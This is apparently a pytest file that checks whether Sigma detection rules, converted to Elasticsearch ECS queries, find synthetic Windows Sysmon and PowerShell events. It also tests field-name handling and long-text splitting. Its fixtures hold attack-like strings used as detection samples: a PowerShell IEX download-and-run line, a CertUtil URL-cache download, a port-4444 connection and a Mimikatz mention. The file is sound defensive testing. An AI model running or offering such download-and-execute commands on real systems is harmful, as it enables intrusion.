"""The mapping: what pySigma's own ECS output asks is found, and nothing a source sends is refused."""

import pytest
from elasticsearch import Elasticsearch
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from rows import batch
from sigma.backends.elasticsearch import LuceneBackend
from sigma.collection import SigmaCollection
from sigma.pipelines.elasticsearch.windows import ecs_windows

from taishi.core import ecs
from taishi.core.ports import Condition, Query, Written
from taishi.store import open_event_store
from taishi.store.elasticsearch.pieces import OVERLAP, pieces
from taishi.store.elasticsearch.templates import components, index_template
from taishi.store.elasticsearch.windows_ecs import NAMES

SYSMON = {"winlog.channel": "Microsoft-Windows-Sysmon/Operational", "event.code": "1"}
LONG = (
    "$a='"
    + "x" * 30_000
    + "'; IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/'); "
    + "y" * 9000
)


def rule(category: str, selection: str) -> str:
    """What pySigma makes of it with its pipeline for ECS, untouched."""
    text = f"""
title: t
status: test
logsource: {{product: windows, category: {category}}}
detection:
  selection:
{selection}
  condition: selection
"""
    (query,) = LuceneBackend(processing_pipeline=ecs_windows()).convert(SigmaCollection.from_yaml(text))
    return query


def found(uri: str, query: str) -> set[str]:
    """Asked of the server itself, as Kibana or a scheduled query would."""
    address, _, prefix = uri.removeprefix("elasticsearch+").rpartition("/")
    with Elasticsearch(address) as client:
        answer = client.search(index=f"{prefix}-windows", query={"query_string": {"query": query}})
    return {hit["_source"]["event.id"] for hit in answer["hits"]["hits"]}


@pytest.fixture
def windows_uri(uri):
    store = open_event_store(uri)
    start = {
        "EventID": 1,
        "Channel": SYSMON["winlog.channel"],
        "Image": r"C:\Windows\System32\CertUtil.exe",
        "CommandLine": r"CertUtil  -URLCache -f http://203.0.113.9/Ａ.exe",
        "ParentImage": r"C:\Office\WINWORD.EXE",
        "OriginalFileName": "CertUtil.exe",
        "IntegrityLevel": "High",
        "Hashes": "MD5=AB,IMPHASH=CD",
        "ProcessId": "4242",
        "User": "CORP\\eve",
    }
    net = {
        "EventID": 3,
        "Initiated": "true",
        "Image": r"C:\a.exe",
        "DestinationIp": "203.0.113.9",
        "DestinationPort": 4444,
    }
    script = {"EventID": 4104, "ScriptBlockText": LONG}
    store.write(
        [
            batch(
                "windows",
                {**SYSMON, "event.id": "start", "extra": start},
                {"event.id": "net", "destination.ip": "203.0.113.9", "destination.port": 4444, "extra": net},
                {"event.id": "script", "event.code": "4104", "extra": script},
                {"event.id": "other", "event.code": "1", "extra": {"EventID": 1, "Image": r"C:\b.exe"}},
            )
        ]
    )
    return uri


@pytest.mark.elasticsearch
@pytest.mark.parametrize(
    ("category", "selection", "expected"),
    [
        ("process_creation", r"    Image|endswith: '\certutil.exe'", {"start"}),
        ("process_creation", r"    Image: 'c:\windows\system32\CERTUTIL.EXE'", {"start"}),
        ("process_creation", r"    ParentImage|endswith: '\winword.exe'", {"start"}),
        ("process_creation", "    CommandLine|contains|all: [urlcache, ' -F ']", {"start"}),
        ("process_creation", "    CommandLine|startswith: 'certutil '", {"start"}),
        ("process_creation", "    OriginalFileName: certutil.EXE", {"start"}),
        ("process_creation", "    IntegrityLevel: [high, system]", {"start"}),
        ("process_creation", "    Hashes|contains: imphash=cd", {"start"}),
        ("process_creation", "    EventID: 1", {"start", "other"}),
        ("process_creation", "    ProcessId: 4242", {"start"}),
        ("process_creation", "    CommandLine|re: '.*urlcache.*'", {"start"}),
        ("process_creation", r"    Image|endswith: '\cert'", set()),
        ("network_connection", "    Initiated: true", {"net"}),
        ("network_connection", "    Initiated: false", set()),
        ("network_connection", "    DestinationPort: 4444", {"net"}),
        ("network_connection", "    DestinationIp|cidr: 203.0.113.0/24", {"net"}),
        ("ps_script", "    ScriptBlockText|contains: '(new-object net.webclient)'", {"script"}),
        ("ps_script", "    ScriptBlockText|startswith: \"$A='xxx\"", {"script"}),
        ("ps_script", "    ScriptBlockText|endswith: YYY", {"script"}),
    ],
)  # fmt: skip
def test_a_rule_in_ecs_finds_its_event(windows_uri, category, selection, expected):
    assert found(windows_uri, rule(category, selection)) == expected


@pytest.mark.elasticsearch
def test_a_rule_without_a_field_looks_in_the_raw_record(uri):
    open_event_store(uri).write(
        [batch("windows", {"event.id": "a", "original": "… MimiKatz …"}, {"event.id": "b"})]
    )
    assert found(uri, "*mimikatz*") == {"a"}


def test_names_of_windows_fields_are_those_of_the_public_pipeline():
    asked: dict[str, set[str]] = {}
    for item in ecs_windows().items:
        for name, field in getattr(item.transformation, "mapping", {}).items():
            asked.setdefault(name, set()).add(field.removesuffix(".caseless"))
    columns = set(ecs.schema("windows").names)
    missing = {
        (name, field)
        for name, fields in asked.items()
        for field in fields - columns
        if field not in NAMES.get(name, ()) and field != f"winlog.event_data.{name}"
    }
    assert missing == set()


def test_every_column_has_a_place_in_the_templates():
    common = set(components("p")["p-ecs"]["template"]["mappings"]["properties"])
    for kind in ecs.KINDS:
        own = set(index_template("p", kind, False)["template"]["mappings"]["properties"])
        assert set(ecs.schema(kind).names) <= common | own


#: What sources have sent or could: names that Elasticsearch keeps for itself, or takes for something else.
NAMES_OF_ALL_SORTS = [
    *(
        "",
        " ",
        ".",
        "a..b",
        ".a",
        "b.",
        "_id",
        "_source",
        "_x",
        "a*",
        "#text",
        "a",
        "a.b",
        "a.b.c",
        "县",
        "n" * 300,
    ),
    *("host.name.exact", "process.executable.caseless", "@timestamp", "@timestamp.exact", "taishi.seq"),
    *("destination.port", "dns.question.name", "source"),
]
_names = st.sampled_from(NAMES_OF_ALL_SORTS)
_value = st.none() | st.booleans() | st.integers(-(2**70), 2**70) | st.floats() | st.text(max_size=5)
_nested = st.recursive(_value, lambda one: st.lists(one, max_size=3) | st.dictionaries(_names, one))


@pytest.mark.elasticsearch
@settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(extras=st.lists(st.dictionaries(_names, _nested), min_size=1, max_size=20))
def test_nothing_that_a_source_names_is_refused(uri, extras):
    store = open_event_store(uri)
    events = [batch("other", {"extra": one, "original": repr(one)}) for one in extras]
    different = {event.id: event for one in events for event in one.events()}
    store.write(events)
    assert [store.get(name) for name in different] == list(different.values())
    store.close()


@pytest.mark.elasticsearch
def test_more_names_than_an_index_has_room_for(uri):
    """Beyond the limit they are found as pairs, and no event is refused."""
    store = open_event_store(uri)
    rows = [{"event.id": f"e{n}", "extra": {f"name-{n}-{m}": f"v{m}" for m in range(500)}} for n in range(12)]
    assert store.write([batch("other", *rows)]) == Written(12)
    assert store.count(Query(where=(Condition("name-11-499", "v499"),))) == 1


@given(text=st.text(alphabet="ab😀", max_size=60), size=st.integers(1, 9000), cut=st.integers(0, 20_000))
@settings(max_examples=60, deadline=None)
def test_any_part_of_a_long_text_stands_whole_in_a_piece(text, size, cut):
    long = (text + "z") * size
    made = pieces(long[:60_000])
    assert all(len(one.encode("utf-16-le")) // 2 <= 8191 - 512 for one in made)
    part = long[:60_000][cut : cut + OVERLAP]
    assert any(part in one for one in made)
